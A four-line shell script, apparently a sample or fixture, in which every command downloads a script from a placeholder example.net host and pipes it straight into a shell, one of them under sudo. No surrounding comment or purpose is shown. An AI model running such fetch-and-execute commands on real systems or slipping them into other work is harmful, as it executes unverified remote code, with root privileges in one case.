#!/bin/sh
curl -fsSL https://get.tool.example.net/install | sh
wget -qO- https://x.example.net/a.sh | sudo bash
bash <(curl -s https://x.example.net/b)
